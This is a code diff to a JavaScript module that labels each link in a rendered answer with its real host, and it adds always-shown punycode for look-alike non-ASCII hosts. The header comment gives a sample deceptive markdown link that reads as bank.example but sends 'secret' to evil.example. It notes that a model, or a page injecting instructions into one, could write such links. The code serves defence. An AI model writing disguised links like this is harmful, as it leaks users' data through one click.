@@ -1,7 +1,10 @@
 // The real destination of each link in an answer, shown on the link itself. A model (or a
 // page that injected instructions into it) can write `[https://bank.example](https://evil.example/?d=secret)`:
 // the text says one address, the link goes to another and carries data away in one click.
-// Each link whose text does not already name its host gets a small "(host)" after its text.
+// Each link whose text does not already name its host gets a small "(host)" after its text;
+// a host that is not plain ASCII (a look-alike such as `bаnk.example`, with a Cyrillic а) is
+// always shown, as the browser's URL parser writes it: in punycode (`xn--bnk-…`). The label is
+// isolated from the link's text (code.css), so no direction control in the text reorders it.
 // `shownHost` is pure and runs in Node.
 
 import { element } from "../page/helpers.js";
@@ -17,6 +20,10 @@ function readable(address) {
     return address;
   }
 }
+
+// A host with a label in punycode: it has letters outside ASCII, which can look like others.
+const PUNYCODE_LABEL = /(?:^|\.)xn--/i;
+const isInternational = (hostname) => PUNYCODE_LABEL.test(hostname) || /[^\x00-\x7f]/.test(hostname);
 
 function hostOf(text) {
   try {
@@ -47,6 +54,7 @@ export function shownHost(text, href, base) {
     const target = readable(url.href);
     return label === target || label === target.slice(url.protocol.length) ? "" : target;
   }
+  if (isInternational(url.hostname)) return url.hostname;
   const claimed = LOOKS_LIKE_ADDRESS.test(label) ? hostOf(label) : "";
   return claimed === url.hostname ? "" : url.hostname;
 }
